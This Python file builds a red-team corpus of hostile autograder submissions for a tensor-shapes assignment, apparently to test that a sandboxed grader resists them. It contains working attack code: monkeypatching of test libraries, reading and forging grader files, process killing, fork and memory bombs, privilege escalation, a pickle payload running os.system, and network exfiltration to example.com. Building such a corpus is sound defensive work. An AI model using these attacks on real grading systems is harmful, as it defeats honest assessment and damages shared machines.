"""The red-team corpus: hostile and broken a02_shapes submissions, each a notebook a student could hand in.

Every attack starts from an honest submission: the released notebook with the solution's answers filled
in. Its cells are marked in their metadata: an "attack" cell is the hostile part, an "honest" cell is a
partial answer the student wrote honestly; removing the attack cells gives the notebook's honest content,
which the attack must never out-score. Rebuild the notebooks after changing this file with

    .venv/bin/python tests/redteam/corpus.py

(test_redteam.py fails when one is missing or stale). Attacks that try to leave the sandbox write files
named REDTEAM_WAS_HERE; the test looks for them.
"""

from __future__ import annotations

import copy
import json
import sys
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
NOTEBOOKS = Path(__file__).resolve().parent / "notebooks"
ASSIGNMENT = "a02_shapes"
TARGET = "flatten_view"
MARKER = "REDTEAM_WAS_HERE"
HOST_MARKER = f"/tmp/{MARKER}"  # the grader machine's /tmp, outside every sandbox


@dataclass(frozen=True)
class Attack:
    name: str
    vector: str  # what it tries, for a reader of the corpus
    says: str | tuple[str, ...]  # phrase(s) (English): the TA-facing reasons of the lost points contain one
    cells: tuple[tuple[str, str], ...] = ()  # (role, source); role "attack" or "honest"
    target: str | None = TARGET  # the exercise whose answer cell the cells replace; None: appended at the end
    raw: bytes | None = None  # a file that is not a sound notebook at all
    drop_target: bool = False  # the target's answer cell is deleted and nothing replaces it

    @property
    def phrases(self) -> tuple[str, ...]:
        return (self.says,) if isinstance(self.says, str) else self.says


def attack(source: str) -> tuple[str, str]:
    return ("attack", source.strip("\n") + "\n")


def honest(source: str) -> tuple[str, str]:
    return ("honest", source.strip("\n") + "\n")


WRONG = "def flatten_view(t):\n    return torch.zeros(t.numel(), dtype=t.dtype)\n"
COPYING = honest("def flatten_view(t):\n    if not t.is_contiguous():\n        raise RuntimeError('not contiguous')\n"
                 "    return t.clone().view(-1)\n")  # right values, refuses like view, but a copy
FIND_KIT = '''
import glob, os, sys
def kit_places():
    """Where the grader might live: paths in argv, sys.path, the interpreter, the usual suspects."""
    found = set()
    for text in [open("/proc/1/cmdline", "rb").read().decode(errors="replace"),
                 open("/proc/self/cmdline", "rb").read().decode(errors="replace"), sys.executable, *sys.path]:
        for part in text.replace("\\0", " ").split():
            while part and part != "/":
                found.add(part)
                part = os.path.dirname(part)
    return sorted(found | {"/work/main", "/autograder", "/grade", "/srv", "/home", "/root", os.getcwd(), "/tmp"})
'''

ATTACKS = [
    # -- types and dunders: only plain data crosses, so a clever object never reaches a comparison
    Attack("eq_always_true", "object whose __eq__ is always True", "should be a Tensor", (attack('''
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = object.__hash__
def flatten_view(t):
    return Anything()
'''),)),
    Attack("bool_float_spoof", "object spoofing __bool__, __float__, __int__, __len__, __array__", "should be a Tensor",
           (attack('''
import numpy as np
class Chameleon:
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __index__(self): return 0
    def __len__(self): return 6
    def __iter__(self): return iter(range(6))
    def __array__(self, dtype=None, copy=None): return np.arange(6)
    def __eq__(self, other): return True
def flatten_view(t):
    return Chameleon()
'''),)),
    Attack("tensor_subclass_torch_function", "torch.Tensor subclass whose __torch_function__ says every comparison "
           "holds", "wrong values", (attack('''
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal", "isclose", "__eq__", "eq", "all", "testing"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
def flatten_view(t):
    return torch.zeros(t.numel(), dtype=t.dtype).as_subclass(Liar)
'''),)),
    Attack("tensor_subclass_fakes_storage", "Tensor subclass claiming the input's storage, data_ptr and strides for a "
           "copy", "it is a copy", (COPYING, attack('''
_copy = flatten_view
class SharedLooking(torch.Tensor):
    source = None
    def untyped_storage(self): return SharedLooking.source.untyped_storage()
    def data_ptr(self): return SharedLooking.source.data_ptr()
    def storage_offset(self): return 0
    def is_contiguous(self, *a, **k): return True
def flatten_view(t):
    SharedLooking.source = t
    return _copy(t).as_subclass(SharedLooking)
'''))),
    Attack("monkeypatch_storage_pointers", "patch torch.UntypedStorage.data_ptr/nbytes and Tensor.data_ptr so every "
           "tensor seems to share memory", "it is a copy", (COPYING, attack('''
torch.UntypedStorage.data_ptr = lambda self: 4096
torch.UntypedStorage.nbytes = lambda self: 1 << 40
torch.Tensor.data_ptr = lambda self: 4096
'''))),
    Attack("monkeypatch_numpy_bounds", "patch numpy's byte_bounds and shares_memory so a copied array seems to "
           "share the tensor's memory", "it is a copy", (honest('''
def tensor_to_numpy(t):
    return t.detach().clone().numpy()
'''), attack('''
import numpy as np
np.lib.array_utils.byte_bounds = lambda a: (0, 1 << 62)
np.shares_memory = np.may_share_memory = lambda *a, **k: True
try:  # numpy's own types are immutable; the attempt is what counts
    np.ndarray.__array_interface__ = property(lambda self: {"data": (4096, False), "shape": self.shape,
                                                            "strides": None, "typestr": "|u1", "version": 3})
except TypeError:
    pass
''')), target="tensor_to_numpy"),
    Attack("monkeypatch_torch_comparisons", "patch torch.allclose/equal/testing.assert_close/Tensor.__eq__ to pass",
           "wrong values", (attack('''
import torch.testing
torch.allclose = torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: True
''' + WRONG),)),
    Attack("monkeypatch_numpy_testing", "patch numpy.testing and numpy comparisons to pass", "wrong values", (attack('''
import numpy as np, numpy.testing
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
np.allclose = np.array_equal = lambda *a, **k: True
''' + WRONG),)),
    Attack("monkeypatch_pytest", "import pytest in the notebook and disable failing (the grader's pytest is another "
           "process)", "wrong values", (attack('''
import pytest, _pytest.outcomes
pytest.fail = _pytest.outcomes.fail = lambda *a, **k: None
pytest.approx = lambda expected, *a, **k: type("Equal", (), {"__eq__": lambda s, o: True})()
try:
    import _pytest.python
    _pytest.python.Function.runtest = lambda self: None
except Exception:
    pass
''' + WRONG),)),
    Attack("monkeypatch_builtins", "replace isinstance/type checks and AssertionError in builtins",
           ("wrong values", "exited"),
           (attack('''
import builtins
builtins.isinstance = lambda obj, cls: True
builtins.issubclass = lambda a, b: True
builtins.AssertionError = type("NeverRaised", (Exception,), {})
''' + WRONG),)),
    Attack("monkeypatch_grader_modules", "import the kit's modules, or fake them in sys.modules, to disable checks",
           "wrong values", (attack('''
import sys, types
for name in ("autograder", "autograder.expect", "autograder.grade", "autograder.boundary", "autograder.codec"):
    try:
        __import__(name)
    except ImportError:
        sys.modules[name] = types.ModuleType(name)
    module = sys.modules[name]
    for attr in ("expect", "expect_tensor", "expect_shares", "expect_unchanged", "decode", "grade"):
        setattr(module, attr, lambda *a, **k: None)
def flatten_view(t):
    frame = sys._getframe(1)
    while frame is not None:  # neutralise anything check-like up the stack
        for key in list(frame.f_globals):
            if key.startswith(("expect", "assert")):
                frame.f_globals[key] = lambda *a, **k: None
        frame = frame.f_back
    return torch.zeros(t.numel(), dtype=t.dtype)
'''),)),
    Attack("frame_inspection", "walk the caller frames and gc for an expected value to return",
           "wrong values", (attack('''
import gc, inspect, sys
def flatten_view(t):
    for frame in inspect.stack():
        for name, value in list(frame.frame.f_locals.items()):
            if name in ("expected", "want", "reference", "answer") and isinstance(value, torch.Tensor):
                return value
    for obj in gc.get_objects():
        if type(obj) is torch.Tensor and obj is not t and obj.numel() == t.numel() and obj.dim() == 1:
            return obj
    return torch.zeros(t.numel(), dtype=t.dtype)
'''),)),
    Attack("gc_mutate_tensors", "zero every tensor gc can find, hoping an expected value is among them", "wrong values",
           (attack('''
import gc
def flatten_view(t):
    for obj in gc.get_objects():
        if isinstance(obj, torch.Tensor) and obj is not t:
            try:
                obj.zero_()
            except Exception:
                pass
    return torch.zeros(t.numel(), dtype=t.dtype)
'''),)),
    Attack("read_hidden_files", "read the graders, the solutions and the gradebook from disk", "wrong values",
           (attack(FIND_KIT + '''
LEAKED = []
for place in kit_places():
    for pattern in ("autograder/graders/*.py", "source/*/*.ipynb", "solutions/*/*.ipynb", "gradebook.db",
                    "submitted/*/*/*.ipynb", "graders/*.py", "*.py"):
        for path in glob.glob(os.path.join(place, pattern)):
            try:
                LEAKED.append((path, open(path, "rb").read(200)))
            except OSError:
                pass
print("LEAKED", [p for p, _ in LEAKED])
''' + WRONG),)),
    Attack("write_fake_results", "write results.json, a gradebook, feedback and a 'passed' log outside its scratch",
           "wrong values", (attack(FIND_KIT + '''
import json
fake = json.dumps({"score": 100, "tests": [{"name": "flatten_view", "score": 7, "max_score": 7}]})
for place in kit_places() + ["/autograder/results", "/grade/results"]:
    for name in ("results.json", "gradebook.db", "REDTEAM_WAS_HERE", "feedback/REDTEAM_WAS_HERE.html",
                 "autograded/REDTEAM_WAS_HERE.ipynb"):
        try:
            os.makedirs(os.path.dirname(os.path.join(place, name)), exist_ok=True)
            with open(os.path.join(place, name), "w") as f:
                f.write(fake)
        except OSError:
            pass
for place in kit_places():  # and append to every grader, notebook and database in reach
    for pattern in ("autograder/graders/*.py", "autograder/*.py", "source/*/*.ipynb", "*.db"):
        for path in glob.glob(os.path.join(place, pattern)):
            try:
                with open(path, "a") as f:
                    f.write("\\n# REDTEAM_WAS_HERE\\n")
            except OSError:
                pass
print("==== 40 passed in 0.01s ====")
print(fake)
''' + WRONG),)),
    Attack("sys_exit", "sys.exit(0) inside the function", "SystemExit", (attack('''
import sys
def flatten_view(t):
    sys.exit(0)
'''),)),
    Attack("os_exit", "os._exit(0) inside the function", "exited", (attack('''
import os
def flatten_view(t):
    os._exit(0)
'''),)),
    Attack("atexit_exit", "atexit hook that exits 0, with a wrong answer", "wrong values", (attack('''
import atexit, os
atexit.register(os._exit, 0)
''' + WRONG),)),
    Attack("exit_while_loading", "os._exit(0) in a top-level cell: nothing of the notebook can be graded", "exited",
           (attack("import os\nos._exit(0)\n"),), target=None),
    Attack("kill_the_grader", "SIGKILL the parent, the process group, every process, and every python it can see",
           "wrong values", (attack('''
import os, signal
def flatten_view(t):
    for pid in (os.getppid(), 0, -1, 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
    return torch.zeros(t.numel(), dtype=t.dtype)
'''),)),
    Attack("signal_tricks", "ignore SIGALRM/SIGTERM/SIGXCPU/SIGINT, cancel alarms, then never return", "Timed out",
           (attack('''
import signal
def flatten_view(t):
    for name in ("SIGALRM", "SIGTERM", "SIGXCPU", "SIGINT", "SIGHUP", "SIGUSR1"):
        signal.signal(getattr(signal, name), signal.SIG_IGN)
    signal.alarm(0)
    while True:
        pass
'''),)),
    Attack("thread_acts_later", "a thread started while loading that later zeroes results and exits the process",
           ("wrong values", "exited"), (attack('''
import gc, os, threading, time
def _saboteur():
    time.sleep(0.2)
    for _ in range(50):
        for obj in gc.get_objects():
            if type(obj) is torch.Tensor:
                try:
                    obj.zero_()
                except Exception:
                    pass
        time.sleep(0.01)
    os._exit(0)
threading.Thread(target=_saboteur, daemon=True).start()
''' + WRONG),)),
    Attack("fork_bomb", "fork until the machine gives up", "Timed out", (attack('''
import os
def flatten_view(t):
    while True:
        try:
            os.fork()
        except OSError:
            pass
'''),)),
    Attack("memory_bomb", "allocate and touch memory without end",
           ("out of memory", "Timed out"),  # a loaded machine may reach the call's deadline before the cap
           (attack('''
def flatten_view(t):
    hoard = []
    while True:
        hoard.append(torch.ones(64 << 20, dtype=torch.uint8))
'''),)),
    Attack("infinite_loop", "never return", "Timed out", (attack('''
def flatten_view(t):
    while True:
        pass
'''),)),
    Attack("infinite_loop_while_loading", "a top-level cell that never ends", "Timed out",
           (attack("while True:\n    pass\n"),), target=None),
    Attack("disk_filling", "fill the scratch, /dev/shm and every writable place it can find",
           "No space left", (attack('''
import os
def flatten_view(t):
    for place in (".", "/dev/shm", "/tmp", "/var/tmp", os.path.expanduser("~")):
        for i in range(1000):
            try:
                with open(os.path.join(place, f"REDTEAM_WAS_HERE.{i}"), "wb") as f:
                    f.write(b"x" * (1 << 20))
            except OSError as error:
                last = error
                break
    raise last
'''),)),
    Attack("output_flood", "flood stdout and stderr (print and raw writes), with a wrong answer",
           "wrong values", (attack('''
import os, sys
for _ in range(200):
    print("spam " * 20_000)
    os.write(1, b"flood" * 100_000)
    os.write(2, b"flood" * 100_000)
''' + WRONG),)),
    Attack("network_exfiltration", "send the inputs out over TCP, UDP, DNS and HTTP, then answer wrongly",
           ("Permission denied", "unreachable"), (attack('''
import socket, urllib.request
def flatten_view(t):
    attempts = [lambda: socket.getaddrinfo("example.com", 80),
                lambda: urllib.request.urlopen("http://example.com/?leak", timeout=1),
                lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53)),
                lambda: socket.create_connection(("1.1.1.1", 80), timeout=1)]
    for attempt in attempts:
        try:
            attempt()
        except OSError as error:
            last = error
    raise last
'''),)),
    Attack("ctypes_segfault", "dereference NULL with ctypes", "crashed", (attack('''
import ctypes
def flatten_view(t):
    return ctypes.string_at(0)
'''),)),
    Attack("pickle_payload", "return an object whose unpickling would run a command (the otter-grader pattern)",
           "should be a Tensor", (attack('''
import os
class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/REDTEAM_WAS_HERE",))
def flatten_view(t):
    return Payload()
'''),)),
    Attack("shadow_modules_and_conftest", "write conftest.py, pytest.ini, torch.py and sitecustomize.py where a "
           "grader might import them", "wrong values", (attack(FIND_KIT + '''
payload = "open('/tmp/REDTEAM_WAS_HERE', 'w').write('imported')\\n"
for place in kit_places() + [os.path.expanduser("~"), "."]:
    for name in ("conftest.py", "pytest.ini", "torch.py", "numpy.py", "sitecustomize.py", "usercustomize.py",
                 "REDTEAM_WAS_HERE.pth"):
        try:
            with open(os.path.join(place, name), "w") as f:
                f.write(payload if name.endswith(".py") else "[pytest]\\naddopts = -p no:python\\n")
        except OSError:
            pass
''' + WRONG),)),
    Attack("privilege_escalation", "setuid(0), raise hard limits, new namespaces, mount, ptrace, write /usr",
           "wrong values", (attack('''
import ctypes, os, resource
libc = ctypes.CDLL(None, use_errno=True)
for attempt in (lambda: os.setuid(0), lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)),
                lambda: libc.unshare(0x10000000) == 0 or (_ for _ in ()).throw(OSError()),
                lambda: libc.mount(b"none", b"/usr", b"tmpfs", 0, None) == 0 or (_ for _ in ()).throw(OSError()),
                lambda: libc.ptrace(16, 1, 0, 0) == 0 or (_ for _ in ()).throw(OSError()),
                lambda: open("/usr/REDTEAM_WAS_HERE", "w")):
    try:
        attempt()
        print("ESCALATED", attempt)
    except (OSError, ValueError):
        pass
''' + WRONG),)),
    Attack("syntax_error", "the answer cell does not parse", "not found", (attack('''
def flatten_view(t)
    return t.view(-1)
'''),)),
    Attack("renamed_function", "the answer renamed", "not found", (attack('''
def flatten_view_v2(t):
    return t.view(-1)
'''),)),
    Attack("deleted_cell", "the answer cell deleted", "not found", drop_target=True),
    Attack("wrong_signature", "an extra required parameter", "TypeError", (attack('''
def flatten_view(t, dim):
    return t.view(-1)
'''),)),
    Attack("hardcoded_example", "return the visible check cell's expected output",
           ("but it should be", "wrong values"), (attack('''
def flatten_view(t):
    return torch.tensor([0, 1, 2, 3, 4, 5])
'''),)),
    Attack("non_utf8_notebook", "a notebook file that is not UTF-8", "not UTF-8", target=None,
           raw=b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, "x": "\xff\xfe\xfa"}'),
    Attack("truncated_json", "a notebook cut off mid-file", "not valid JSON", target=None,
           raw=b'{"cells": [{"cell_type": "code", "source": ["def flatten_view(t):\\n", "    return t.vi'),
    Attack("not_a_notebook", "valid JSON that is not a notebook", "not a Jupyter notebook", target=None,
           raw=b'[{"flatten_view": "t.view(-1)"}]'),
]


def _load(path: Path) -> dict:
    return json.loads(path.read_text(encoding="utf-8"))


def honest_notebook() -> dict:
    """The released notebook with the solution's answers filled in, as a good student hands it in."""
    released = _load(ROOT / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    solution = _load(ROOT / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    answers = {grade_id(c): c["source"] for c in solution["cells"]}
    for cell in released["cells"]:
        if grade_id(cell).endswith("_answer") and grade_id(cell) in answers:
            cell["source"] = answers[grade_id(cell)]
    return released


def grade_id(cell: dict) -> str:
    return str(cell.get("metadata", {}).get("nbgrader", {}).get("grade_id", ""))


def _cell(role: str, source: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {"redteam": role}, "outputs": [],
            "source": source.splitlines(keepends=True)}


def build(item: Attack, base: dict) -> bytes:
    """The attack's notebook file."""
    if item.raw is not None:
        return item.raw
    notebook = copy.deepcopy(base)
    cells = [_cell(role, source) for role, source in item.cells]
    if item.target is None:
        notebook["cells"] += cells
    else:
        at = next(i for i, c in enumerate(notebook["cells"]) if grade_id(c) == f"{item.target}_answer")
        notebook["cells"][at:at + 1] = [] if item.drop_target else cells
    notebook["metadata"]["redteam"] = {"attack": item.name, "vector": item.vector}
    return (json.dumps(notebook, ensure_ascii=False, indent=1) + "\n").encode()


def honest_content(notebook_bytes: bytes) -> bytes | None:
    """The same notebook without its attack cells; None for a file that is no notebook."""
    try:
        notebook = json.loads(notebook_bytes.decode("utf-8"))
        notebook["cells"] = [c for c in notebook["cells"] if c.get("metadata", {}).get("redteam") != "attack"]
    except (ValueError, TypeError, KeyError, AttributeError):
        return None
    return (json.dumps(notebook, ensure_ascii=False, indent=1) + "\n").encode()


def path(item: Attack) -> Path:
    return NOTEBOOKS / f"{item.name}.ipynb"


def main() -> int:
    NOTEBOOKS.mkdir(exist_ok=True)
    base = honest_notebook()
    names = {item.name for item in ATTACKS}
    for stale in NOTEBOOKS.glob("*.ipynb"):
        if stale.stem not in names:
            stale.unlink()
    for item in ATTACKS:
        path(item).write_bytes(build(item, base))
    print(f"wrote {len(ATTACKS)} notebooks to {NOTEBOOKS.relative_to(ROOT)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
